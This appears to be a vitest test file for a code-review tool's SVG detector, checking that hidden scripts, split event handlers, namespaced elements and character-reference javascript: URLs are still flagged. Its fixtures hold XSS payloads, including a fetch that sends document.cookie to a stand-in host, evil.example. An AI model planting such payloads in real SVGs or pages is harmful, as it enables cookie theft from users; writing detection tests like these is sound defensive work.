/**
 * Red team: an SVG that hides what runs from the security facts. The facts
 * come from the whole added text (svg.ts): a namespace prefix, an attribute
 * whose `=` or value sits on the next line, a `javascript:` URL spelt with
 * character references, a script in CDATA and a flood of harmless links
 * before the script each still leave a fact, with the line it is on.
 */
import { describe, expect, it } from "vitest";
import { piecesOf } from "../../src/review/codeReview/chunks.js";
import { svgFacts } from "../../src/review/codeReview/svg.js";
import type { FileDiff } from "../../src/review/codeReview/types.js";

const facts = (texts: string[]) => svgFacts(texts.map((text, i) => ({ number: i + 1, text })));
const kinds = (texts: string[]) => facts(texts).map((f) => f.slice(0, f.indexOf(": `")));

function svgFile(lines: string[], path = "assets/icon.svg"): FileDiff {
  return {
    path,
    status: "added",
    binary: false,
    additions: lines.length,
    deletions: 0,
    patch: `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join("\n")}\n`,
  };
}

describe("SVG facts against hiding", () => {
  it("sees elements behind a namespace prefix: svg:script, h:iframe, x:foreignObject", () => {
    expect(
      kinds([
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">',
        "<svg:script>alert(document.cookie)</svg:script>",
        "<x:foreignObject><h:iframe/></x:foreignObject>",
      ]),
    ).toEqual(["line 2: script element", "line 3: embedded document or plugin", "line 3: embedded document or plugin"]);
  });

  it("sees a script whose body is CDATA", () => {
    expect(kinds(['<script type="text/ecmascript"><![CDATA[', "  fetch('https://evil.example/' + document.cookie)", "]]></script>"])).toEqual([
      "line 1: script element",
    ]);
  });

  it("sees an event handler whose name, `=` and value are on separate lines, in any case", () => {
    const found = facts(['<svg xmlns="http://www.w3.org/2000/svg"', "  OnLoAd", "  =", '  "fetch(`//evil.example`)">', "</svg>"]);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatch(/^line 2: event handler attribute: `OnLoAd {3}= {3}"fetch\( \/\/evil\.example \)"`$/);
  });

  it("sees a link whose value is on the next line", () => {
    expect(facts(["<image xlink:href", '="https://tracker.example/p.png"/>'])).toEqual([
      'line 1: reference outside the document: `xlink:href ="https://tracker.example/p.png"`',
    ]);
  });

  it("sees a javascript: URL spelt with character references, even with a tab inside", () => {
    expect(
      kinds([
        '<a href="&#106;avascript:alert(1)">x</a>',
        "<a xlink:href='&#x6A;ava&#x09;script&#58;alert(2)'>y</a>",
        '<a href="&amp;x">ok</a>',
        '<a href="java&Tab;script&colon;alert(3)">z</a>',
      ]),
    ).toEqual([
      "line 1: reference outside the document",
      "line 1: javascript: URL written with character references",
      "line 2: reference outside the document",
      "line 2: javascript: URL written with character references",
      "line 3: reference outside the document",
      "line 4: reference outside the document",
      "line 4: javascript: URL written with character references",
    ]);
  });

  it("lists the script when hundreds of harmless links come first; the rest are counted by kind", () => {
    const links = Array.from({ length: 300 }, (_, i) => `<image href="https://cdn.example/${i}.png"/>`);
    const found = facts(["<svg>", ...links, "<script>alert(1)</script>", "<g onclick='steal()'/>", "</svg>"]);
    expect(found).toHaveLength(41);
    expect(found).toContain("line 302: script element: `<script>`");
    expect(found).toContain("line 303: event handler attribute: `onclick='steal()'`");
    expect(found.at(-1)).toBe("… 262 more of these not listed (262 reference outside the document)");
  });

  it("reaches the piece the lane reads, past the rows the hunk shows", () => {
    const links = Array.from({ length: 260 }, (_, i) => `<image href="https://cdn.example/${i}.png"/>`);
    const [piece] = piecesOf(svgFile(["<svg>", ...links, "<svg:script>alert(1)</svg:script>", "</svg>"]), 60_000)!;
    expect(piece).toContain("more lines of this SVG not shown");
    expect(piece).not.toContain("<svg:script>alert(1)</svg:script>\n");
    expect(piece).toContain("- line 262: script element: `<svg:script>`");
  });
});
